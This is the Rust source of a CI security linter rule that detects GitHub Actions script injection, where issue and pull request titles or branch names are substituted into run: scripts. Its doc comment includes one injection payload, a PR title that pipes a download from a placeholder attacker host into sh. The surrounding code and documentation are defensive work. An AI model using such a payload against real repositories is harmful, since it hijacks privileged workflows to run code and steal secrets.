//! Flags GitHub Actions expressions that put outsiders' text into a script.
//!
//! ## What it checks
//! Every `${{ … }}` inside a step's `run:` script, and inside the `script:` input of
//! `actions/github-script`. GitHub replaces the expression with its value *before* the shell
//! (or Node.js) reads the script, so the value becomes code. It is reported when the
//! expression reads text that people outside the repository write:
//! - issue, pull request, comment, review and discussion titles and bodies, branch names
//!   (`github.head_ref`, `…head.ref`, `…head.label`), commit messages and author names and
//!   e-mails, wiki page names (the list in GitHub's security hardening guide): *high*, or
//!   *medium* when the only trigger that carries outsiders' text is `pull_request` (a fork's
//!   pull request runs with a read-only token and no secrets, but still runs the code);
//! - an `env.NAME` whose value is such an expression (the workflow's, the job's or the
//!   step's `env:`): *high*, pointing at both lines;
//! - `inputs.*` of a manually started workflow: *medium*, low confidence (only people with
//!   write access start it, but an input is still not a script).
//!
//! A value only compared (`github.head_ref == 'main'`, `contains(github.event.issue.title,
//! 'bug')`) does not reach the script and is not reported, nor are expressions outside
//! scripts (`if:`, `with:` inputs of other actions, which receive the value as data).
//!
//! ## Why it matters
//! A pull request titled `a"; curl -sSfL https://evil.example/x | sh; echo "` turns
//! `echo "${{ github.event.pull_request.title }}"` into a command the runner executes, with
//! the job's token and secrets at hand. With `pull_request_target`, `issue_comment` or
//! `issues` triggers the job runs with write access to the repository: anyone with a GitHub
//! account can then push code, publish releases or steal deployment secrets.
//!
//! ## Example
//! ```yaml
//! - run: echo "Title: ${{ github.event.issue.title }}"     # flagged
//! - env:
//!     TITLE: ${{ github.event.issue.title }}
//!   run: echo "Title: $TITLE"                              # fine: the shell reads data
//! ```
//!
//! ## Remediation
//! Pass the value through an environment variable and quote it in the shell (`"$TITLE"`);
//! in `actions/github-script`, read `context.payload` instead of substituting expressions.
//!
//! ## References
//! - CWE-78: OS Command Injection; CWE-94: Code Injection
//! - OWASP Top 10 2021, A03 Injection
//! - GitHub Docs, Security hardening for GitHub Actions: understanding the risk of script
//!   injections

use crate::rules::{RuleContext, WorkflowRule};
use crate::expressions::{Taint, env_names, expressions, untrusted_context};
use crate::workflow::{Step, Value, Workflow};
use palisade_core::{Confidence, Finding, Owasp, Recommendation, RuleMeta, Severity};

pub static META: RuleMeta = RuleMeta {
    id: "ci/github-script-injection",
    title: "Outsiders' text substituted into a workflow script",
    severity: Severity::High,
    confidence: Confidence::High,
    cwe: &[78, 94],
    owasp: Owasp::A03,
    recommendation: Recommendation::AccessControl,
    needs_network: false,
    options: &[],
    source: include_str!("github_script_injection.rs"),
};

pub static RULE: WorkflowRule = WorkflowRule {
    meta: &META,
    check,
};

fn check(workflow: &Workflow, cx: &mut RuleContext<'_, '_>) {
    for job in &workflow.jobs {
        for step in &job.steps {
            let Some(script) = script_of(step) else {
                continue;
            };
            // The env a step sees: the workflow's, then the job's, then its own (last wins).
            let env: Vec<&(String, Value)> = workflow
                .env
                .iter()
                .chain(&job.env)
                .chain(&step.env)
                .collect();
            for expression in expressions(&script.text) {
                let whole = &script.text[expression.start..expression.end];
                if let Some((taint, path)) = untrusted_context(expression.inner) {
                    let finding = Finding::new(
                        &META,
                        cx.span_within(script, expression.start, whole),
                        format!(
                            "`{path}` is written by {who} and substituted into the script before it runs",
                            who = who(taint)
                        ),
                    );
                    cx.report(graded(finding, taint, workflow));
                    continue;
                }
                for name in env_names(expression.inner) {
                    let Some((key, value)) = env
                        .iter()
                        .rev()
                        .find(|(key, _)| key.eq_ignore_ascii_case(&name))
                    else {
                        continue;
                    };
                    let Some((taint, path)) = expressions(&value.text)
                        .iter()
                        .find_map(|e| untrusted_context(e.inner))
                    else {
                        continue;
                    };
                    let finding = Finding::new(
                        &META,
                        cx.span_within(script, expression.start, whole),
                        format!(
                            "`env.{key}` holds `{path}`, written by {who}, and is substituted into the script before it runs",
                            who = who(taint)
                        ),
                    )
                    .with_related(cx.span_in(value, &value.text), format!("`{key}` is set here"));
                    cx.report(graded(finding, taint, workflow));
                }
            }
        }
    }
}

/// The script of a step: its `run:`, or the `script:` input of `actions/github-script`.
fn script_of(step: &Step) -> Option<&Value> {
    if let Some(run) = &step.run {
        return Some(run);
    }
    let uses = step.uses.as_ref()?;
    let action = uses.text.split('@').next().unwrap_or("");
    if !action.eq_ignore_ascii_case("actions/github-script") {
        return None;
    }
    step.with
        .iter()
        .find(|(key, _)| key == "script")
        .map(|(_, value)| value)
}

fn who(taint: Taint) -> &'static str {
    match taint {
        Taint::Outsider => "anyone who can open an issue, a pull request or a comment",
        Taint::Collaborator => "whoever starts the workflow by hand",
    }
}

/// Events whose runs hold the base repository's token and secrets while carrying text that
/// outsiders wrote (every outsider-triggered event but a fork's `pull_request`).
const PRIVILEGED_OUTSIDER_EVENTS: &[&str] = &[
    "pull_request_target",
    "issues",
    "issue_comment",
    "pull_request_review",
    "pull_request_review_comment",
    "discussion",
    "discussion_comment",
    "workflow_run",
    "push",
    "gollum",
];

fn graded(finding: Finding, taint: Taint, workflow: &Workflow) -> Finding {
    match taint {
        Taint::Outsider if workflow.triggered_by(PRIVILEGED_OUTSIDER_EVENTS) => finding,
        Taint::Outsider if workflow.triggered_by(&["pull_request"]) => {
            finding.with_severity(Severity::Medium)
        }
        Taint::Outsider => finding,
        Taint::Collaborator => finding
            .with_severity(Severity::Medium)
            .with_confidence(Confidence::Low),
    }
}
